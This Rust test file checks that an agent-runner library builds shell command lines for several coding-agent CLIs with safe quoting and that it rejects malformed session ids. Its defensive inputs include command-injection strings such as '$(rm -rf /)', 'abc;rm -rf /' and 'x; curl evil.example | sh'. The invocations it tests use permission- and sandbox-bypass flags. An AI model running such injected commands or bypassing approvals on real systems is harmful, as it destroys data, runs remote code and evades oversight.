use gatehouse_agent::Tools;
use gatehouse_agent::{
    Executor, ModelApi, Role, Session, SessionIdError, check_session_id, invocation,
    turn_invocation,
};
use insta::assert_snapshot;

/// Where the runner writes the files, as the sandbox sees them.
const PROMPT: &str = "/in/.agent/prompt.md";
const SYSTEM: &str = "/in/.agent/system.md";
/// A path a user's workspace layout could produce: spaces and both kinds of quote.
const AWKWARD: &str = "/in/.agent/it's \"the\" prompt $HOME.md";
const TRANSCRIPT: &str = "/in/.agent/transcript.md";
/// As Claude Code and Codex print them.
const SESSION: &str = "40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b";

fn role(executor: Executor) -> Role {
    Role::new(executor)
}

#[test]
fn claude_code() {
    let bare = role(Executor::ClaudeCode);
    assert_snapshot!(invocation(&bare, None, &Tools::none(), PROMPT, None), @"claude -p --output-format stream-json --verbose --permission-mode bypassPermissions < /in/.agent/prompt.md");

    let full = Role {
        model: Some("claude-sonnet-4-5".to_owned()),
        args: vec![
            "--max-turns".to_owned(),
            "40".to_owned(),
            "--add-dir".to_owned(),
            "/in/docs and notes".to_owned(),
        ],
        ..role(Executor::ClaudeCode)
    };
    assert_snapshot!(invocation(&full, None, &Tools::none(), PROMPT, Some(SYSTEM)), @r#"claude -p --output-format stream-json --verbose --model claude-sonnet-4-5 --append-system-prompt "$(cat /in/.agent/system.md)" --permission-mode bypassPermissions --max-turns 40 --add-dir '/in/docs and notes' < /in/.agent/prompt.md"#);
    assert_snapshot!(invocation(&full, None, &Tools::none(), AWKWARD, Some(AWKWARD)), @r#"claude -p --output-format stream-json --verbose --model claude-sonnet-4-5 --append-system-prompt "$(cat "/in/.agent/it's \"the\" prompt "'$HOME.md')" --permission-mode bypassPermissions --max-turns 40 --add-dir '/in/docs and notes' < "/in/.agent/it's \"the\" prompt "'$HOME.md'"#);
}

#[test]
fn codex() {
    let bare = role(Executor::Codex);
    assert_snapshot!(invocation(&bare, None, &Tools::none(), PROMPT, None), @"codex exec --json --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox - < /in/.agent/prompt.md");

    let full = Role {
        model: Some("gpt-5-codex".to_owned()),
        args: vec![
            "-c".to_owned(),
            "model_reasoning_effort=\"high\"".to_owned(),
        ],
        ..role(Executor::Codex)
    };
    assert_snapshot!(invocation(&full, None, &Tools::none(), PROMPT, Some(SYSTEM)), @r#"{ cat /in/.agent/system.md; printf '\n\n'; cat /in/.agent/prompt.md; } | codex exec --json --model gpt-5-codex --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox -c 'model_reasoning_effort="high"' -"#);
    assert_snapshot!(invocation(&full, None, &Tools::none(), AWKWARD, Some(AWKWARD)), @r#"{ cat "/in/.agent/it's \"the\" prompt "'$HOME.md'; printf '\n\n'; cat "/in/.agent/it's \"the\" prompt "'$HOME.md'; } | codex exec --json --model gpt-5-codex --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox -c 'model_reasoning_effort="high"' -"#);
}

#[test]
fn codex_through_the_gateway_defines_its_provider_from_the_environment() {
    let through = Role {
        provider: Some("openai".to_owned()),
        model: Some("gpt-5-codex".to_owned()),
        ..role(Executor::Codex)
    };
    assert_snapshot!(invocation(&through, None, &Tools::none(), PROMPT, None), @r#"codex exec --json --model gpt-5-codex --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox -c model_provider=gatehouse -c model_providers.gatehouse.name=Gatehouse -c "model_providers.gatehouse.base_url=$OPENAI_BASE_URL" -c model_providers.gatehouse.wire_api=responses -c model_providers.gatehouse.env_key=OPENAI_API_KEY -c analytics.enabled=false -c check_for_update_on_startup=false -c model_providers.gatehouse.request_max_retries=3 -c model_providers.gatehouse.stream_max_retries=3 - < /in/.agent/prompt.md"#);
    // Retries are the role's: bounded so an unreachable model fails the node soon.
    let patient = Role {
        max_retries: Some(7),
        ..through.clone()
    };
    let line = invocation(&patient, None, &Tools::none(), PROMPT, None);
    assert!(
        line.contains("request_max_retries=7") && line.contains("stream_max_retries=7"),
        "{line}"
    );
    // Claude Code reads ANTHROPIC_BASE_URL itself: nothing to add.
    let claude = Role {
        provider: Some("anthropic".to_owned()),
        ..role(Executor::ClaudeCode)
    };
    assert_eq!(
        invocation(&claude, None, &Tools::none(), PROMPT, None),
        invocation(
            &role(Executor::ClaudeCode),
            None,
            &Tools::none(),
            PROMPT,
            None
        )
    );
}

#[test]
fn claude_code_gets_its_retries_in_its_environment_and_too_many_are_refused() {
    let env = |role: &Role| role.cli_environment().into_iter().collect::<Vec<_>>();
    let claude = role(Executor::ClaudeCode);
    assert!(
        env(&claude).contains(&("CLAUDE_CODE_MAX_RETRIES".to_owned(), "3".to_owned())),
        "{:?}",
        env(&claude)
    );
    let patient = Role {
        max_retries: Some(0),
        ..claude.clone()
    };
    assert!(env(&patient).contains(&("CLAUDE_CODE_MAX_RETRIES".to_owned(), "0".to_owned())));
    assert!(
        env(&role(Executor::Codex)).is_empty(),
        "Codex takes them on its command line"
    );
    let greedy = Role {
        max_retries: Some(1000),
        ..claude
    };
    let refused = greedy.check().expect_err("too many retries");
    assert!(refused.to_string().contains("at most 20"), "{refused}");
}

#[test]
fn command() {
    let role = Role {
        model: Some("my model".to_owned()),
        command: [
            "my-agent",
            "--prompt={prompt_file}",
            "--system",
            "{system_file}",
            "--model",
            "{model}",
            r#"{"effort":"high"}"#,
            "$(rm -rf /)",
        ]
        .map(String::from)
        .into(),
        ..role(Executor::Command)
    };
    assert_snapshot!(invocation(&role, None, &Tools::none(), PROMPT, Some(SYSTEM)), @r#"my-agent '--prompt=/in/.agent/prompt.md' --system /in/.agent/system.md --model 'my model' '{"effort":"high"}' '$(rm -rf /)'"#);
    assert_snapshot!(invocation(&role, None, &Tools::none(), AWKWARD, None), @r#"my-agent "--prompt=/in/.agent/it's \"the\" prompt "'$HOME.md' --system '' --model 'my model' '{"effort":"high"}' '$(rm -rf /)'"#);
}

fn turn(role: &Role, system: Option<&str>, resume: Option<&str>) -> String {
    let session = Session {
        resume,
        transcript_file: Some(TRANSCRIPT),
    };
    turn_invocation(role, None, &Tools::none(), PROMPT, system, session)
        .expect("a valid session id")
}

#[test]
fn a_turn_without_a_session_is_the_node_invocation() {
    let roles = [
        Role {
            model: Some("m".to_owned()),
            ..role(Executor::ClaudeCode)
        },
        role(Executor::Codex),
        Role {
            command: ["my-agent", "{prompt_file}", "{system_file}"]
                .map(String::from)
                .into(),
            ..role(Executor::Command)
        },
    ];
    for role in &roles {
        for system in [None, Some(SYSTEM)] {
            assert_eq!(
                turn_invocation(
                    role,
                    None,
                    &Tools::none(),
                    PROMPT,
                    system,
                    Session::default()
                ),
                Ok(invocation(role, None, &Tools::none(), PROMPT, system)),
                "{role:?}"
            );
        }
    }
}

#[test]
fn claude_code_turn_resumes_the_session_and_keeps_the_system_text() {
    let full = Role {
        model: Some("claude-sonnet-4-5".to_owned()),
        args: vec!["--max-turns".to_owned(), "40".to_owned()],
        ..role(Executor::ClaudeCode)
    };
    assert_snapshot!(turn(&full, Some(SYSTEM), Some(SESSION)), @r#"claude -p --output-format stream-json --verbose --resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b --model claude-sonnet-4-5 --append-system-prompt "$(cat /in/.agent/system.md)" --permission-mode bypassPermissions --max-turns 40 < /in/.agent/prompt.md"#);
    assert_snapshot!(turn(&role(Executor::ClaudeCode), None, None), @"claude -p --output-format stream-json --verbose --permission-mode bypassPermissions < /in/.agent/prompt.md");
}

#[test]
fn codex_turn_resumes_after_the_exec_options_without_the_system_text() {
    let full = Role {
        model: Some("gpt-5-codex".to_owned()),
        args: vec![
            "-c".to_owned(),
            "model_reasoning_effort=\"high\"".to_owned(),
        ],
        ..role(Executor::Codex)
    };
    assert_snapshot!(turn(&full, Some(SYSTEM), Some(SESSION)), @r#"codex exec --json --model gpt-5-codex --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox -c 'model_reasoning_effort="high"' resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b - < /in/.agent/prompt.md"#);
    // A first turn sends the system text, as a node does.
    assert_snapshot!(turn(&full, Some(SYSTEM), None), @r#"{ cat /in/.agent/system.md; printf '\n\n'; cat /in/.agent/prompt.md; } | codex exec --json --model gpt-5-codex --skip-git-repo-check --dangerously-bypass-approvals-and-sandbox -c 'model_reasoning_effort="high"' -"#);
}

#[test]
fn command_turn_gets_the_transcript_file_and_no_session() {
    let role = Role {
        command: [
            "my-agent",
            "--transcript={transcript_file}",
            "{prompt_file}",
        ]
        .map(String::from)
        .into(),
        ..role(Executor::Command)
    };
    assert_eq!(
        role.check(),
        Ok(()),
        "{{transcript_file}} is a known placeholder"
    );
    assert_snapshot!(turn(&role, None, Some(SESSION)), @"my-agent '--transcript=/in/.agent/transcript.md' /in/.agent/prompt.md");
    let awkward = Session {
        resume: None,
        transcript_file: Some(AWKWARD),
    };
    assert_snapshot!(turn_invocation(&role, None, &Tools::none(), PROMPT, None, awkward).expect("no session"), @r#"my-agent "--transcript=/in/.agent/it's \"the\" prompt "'$HOME.md' /in/.agent/prompt.md"#);
    // An SOP node has no conversation: the placeholder is empty, as {system_file} without
    // system text is.
    assert_snapshot!(invocation(&role, None, &Tools::none(), PROMPT, None), @"my-agent '--transcript=' /in/.agent/prompt.md");
}

#[test]
fn session_ids_are_plain_words() {
    for id in [
        SESSION,
        "thread_01",
        "a",
        "0199a213-81c0-7800-8aa1-bbab2a035a53",
    ] {
        assert_eq!(check_session_id(id), Ok(()), "{id}");
    }
    let long = "a".repeat(129);
    assert_eq!(check_session_id(&"a".repeat(128)), Ok(()));
    assert_eq!(
        check_session_id(&long),
        Err(SessionIdError::TooLong { len: 129 })
    );
    assert_eq!(check_session_id(""), Err(SessionIdError::Empty));
    for (id, at) in [
        ("--dangerously-skip-permissions", 0),
        ("-x", 0),
        ("abc def", 3),
        ("abc;rm -rf /", 3),
        ("$(id)", 0),
        ("`id`", 0),
        ("a'b", 1),
        ("a\"b", 1),
        ("a\nb", 1),
        ("a/b", 1),
        ("a.b", 1),
        ("é", 0),
        ("a\0b", 1),
        ("<!channel>", 0),
    ] {
        assert_eq!(
            check_session_id(id),
            Err(SessionIdError::Malformed { at }),
            "{id:?}"
        );
    }
}

#[test]
fn a_turn_refuses_a_bad_session_id_for_every_executor() {
    let bad = Session {
        resume: Some("x; curl evil.example | sh"),
        transcript_file: None,
    };
    let errors: Vec<String> = [
        Executor::ClaudeCode,
        Executor::Codex,
        Executor::Command,
        Executor::Gemini,
        Executor::Copilot,
        Executor::Opencode,
        Executor::Pi,
    ]
    .map(|executor| Role {
        command: vec!["my-agent".to_owned()],
        ..role(executor)
    })
    .iter()
    .map(|role| {
        let error =
            turn_invocation(role, None, &Tools::none(), PROMPT, None, bad).expect_err("refused");
        error.to_string()
    })
    .collect();
    assert!(errors.iter().all(|e| *e == errors[0]), "{errors:#?}");
    assert_snapshot!(errors[0], @"the CLI reported a session id that is not letters, digits, `-` and `_` starting with a letter or digit (byte 1 is not allowed)");
    let long = "a".repeat(500);
    let error = turn_invocation(
        &role(Executor::ClaudeCode),
        None,
        &Tools::none(),
        PROMPT,
        None,
        Session {
            resume: Some(&long),
            transcript_file: None,
        },
    )
    .expect_err("refused");
    assert_snapshot!(error.to_string(), @"the CLI reported a session id of 500 bytes; ids are at most 128");
}

#[test]
fn gemini_writes_its_settings_then_reads_the_system_text_and_prompt_on_stdin() {
    let bare = role(Executor::Gemini);
    // On its own: no authentication method chosen, the role's variables pick one.
    assert_snapshot!(invocation(&bare, None, &Tools::none(), PROMPT, None), @r#"mkdir -p "$HOME"/.gemini && printf '%s\n' '{"general":{"enableAutoUpdate":false,"enableAutoUpdateNotification":false,"maxAttempts":4},"privacy":{"usageStatisticsEnabled":false},"telemetry":{"enabled":false}}' > "$HOME"/.gemini/settings.json && gemini --output-format stream-json --approval-mode yolo --skip-trust < /in/.agent/prompt.md"#);

    let full = Role {
        model: Some("gemini-2.5-pro".to_owned()),
        max_retries: Some(1),
        args: vec![
            "--include-directories".to_owned(),
            "/in/docs and notes".to_owned(),
        ],
        ..role(Executor::Gemini)
    };
    // Through the gateway: the API key method, with GOOGLE_GEMINI_BASE_URL read by the CLI.
    assert_snapshot!(invocation(&full, Some(ModelApi::Gemini), &Tools::none(), PROMPT, Some(SYSTEM)), @r#"mkdir -p "$HOME"/.gemini && printf '%s\n' '{"general":{"enableAutoUpdate":false,"enableAutoUpdateNotification":false,"maxAttempts":2},"privacy":{"usageStatisticsEnabled":false},"security":{"auth":{"selectedType":"gemini-api-key"}},"telemetry":{"enabled":false}}' > "$HOME"/.gemini/settings.json && { cat /in/.agent/system.md; printf '\n\n'; cat /in/.agent/prompt.md; } | gemini --output-format stream-json --approval-mode yolo --skip-trust --model gemini-2.5-pro --include-directories '/in/docs and notes'"#);
    assert_snapshot!(turn(&full, Some(SYSTEM), Some(SESSION)), @r#"mkdir -p "$HOME"/.gemini && printf '%s\n' '{"general":{"enableAutoUpdate":false,"enableAutoUpdateNotification":false,"maxAttempts":2},"privacy":{"usageStatisticsEnabled":false},"telemetry":{"enabled":false}}' > "$HOME"/.gemini/settings.json && gemini --output-format stream-json --approval-mode yolo --skip-trust --model gemini-2.5-pro --resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b --include-directories '/in/docs and notes' < /in/.agent/prompt.md"#);
    // At most the 10 attempts the CLI accepts.
    let patient = Role {
        max_retries: Some(20),
        ..full
    };
    assert!(
        invocation(&patient, None, &Tools::none(), PROMPT, None).contains("\"maxAttempts\":10")
    );
    assert_eq!(
        patient.cli_environment(),
        [("GEMINI_TELEMETRY_ENABLED".to_owned(), "false".to_owned())]
    );
}

#[test]
fn copilot_runs_on_the_gateway_in_its_api_s_terms_and_prints_its_usage_file() {
    let bare = role(Executor::Copilot);
    // On its own: no provider variables, the role signs in its own way.
    assert_snapshot!(invocation(&bare, None, &Tools::none(), PROMPT, None), @r#"mkdir -p "$HOME/.gatehouse" && rm -f "$HOME/.gatehouse/copilot-usage.json" && copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --usage-output-file "$HOME/.gatehouse/copilot-usage.json" < /in/.agent/prompt.md; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#);

    let full = Role {
        model: Some("gpt-5".to_owned()),
        args: vec!["--add-dir".to_owned(), "/in/docs and notes".to_owned()],
        ..role(Executor::Copilot)
    };
    assert_snapshot!(invocation(&full, Some(ModelApi::OpenAi), &Tools::none(), PROMPT, Some(SYSTEM)), @r#"mkdir -p "$HOME/.gatehouse" && rm -f "$HOME/.gatehouse/copilot-usage.json" && { cat /in/.agent/system.md; printf '\n\n'; cat /in/.agent/prompt.md; } | COPILOT_OFFLINE=true COPILOT_PROVIDER_TYPE=openai COPILOT_PROVIDER_WIRE_API=responses COPILOT_PROVIDER_BASE_URL="${OPENAI_BASE_URL}" COPILOT_PROVIDER_API_KEY="${OPENAI_API_KEY}" copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --model gpt-5 --add-dir '/in/docs and notes' --usage-output-file "$HOME/.gatehouse/copilot-usage.json"; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#);
    assert_snapshot!(invocation(&full, Some(ModelApi::Anthropic), &Tools::none(), AWKWARD, None), @r#"mkdir -p "$HOME/.gatehouse" && rm -f "$HOME/.gatehouse/copilot-usage.json" && COPILOT_OFFLINE=true COPILOT_PROVIDER_TYPE=anthropic COPILOT_PROVIDER_BASE_URL="${ANTHROPIC_BASE_URL}" COPILOT_PROVIDER_API_KEY="${ANTHROPIC_API_KEY}" copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --model gpt-5 --add-dir '/in/docs and notes' --usage-output-file "$HOME/.gatehouse/copilot-usage.json" < "/in/.agent/it's \"the\" prompt "'$HOME.md'; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#);
    // A turn: the previous usage file is kept and printed first, for the difference.
    assert_snapshot!(
        turn_invocation(&full, Some(ModelApi::OpenAi), &Tools::none(), PROMPT, Some(SYSTEM), Session { resume: Some(SESSION), transcript_file: None })
            .expect("a valid id"),
        @r#"mkdir -p "$HOME/.gatehouse" && { cp "$HOME/.gatehouse/copilot-usage.json" "$HOME/.gatehouse/copilot-usage.before.json" 2>/dev/null || rm -f "$HOME/.gatehouse/copilot-usage.before.json"; } && COPILOT_OFFLINE=true COPILOT_PROVIDER_TYPE=openai COPILOT_PROVIDER_WIRE_API=responses COPILOT_PROVIDER_BASE_URL="${OPENAI_BASE_URL}" COPILOT_PROVIDER_API_KEY="${OPENAI_API_KEY}" copilot --output-format json --allow-all --no-ask-user --no-auto-update --disable-client-telemetry --model gpt-5 --resume 40e7b02d-9a3c-4b5e-8f1a-2c6d7e8f9a0b --add-dir '/in/docs and notes' --usage-output-file "$HOME/.gatehouse/copilot-usage.json" < /in/.agent/prompt.md; status=$?; if [ -s "$HOME/.gatehouse/copilot-usage.before.json" ]; then printf '{"type":"gatehouse.copilot_usage_before","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.before.json"; printf '}\n'; fi; if [ -s "$HOME/.gatehouse/copilot-usage.json" ]; then printf '{"type":"gatehouse.copilot_usage","data":'; tr -d '\n\r' < "$HOME/.gatehouse/copilot-usage.json"; printf '}\n'; fi; exit $status"#
    );
    assert_eq!(
        full.cli_environment(),
        [("COPILOT_AUTO_UPDATE".to_owned(), "false".to_owned())]
    );
}
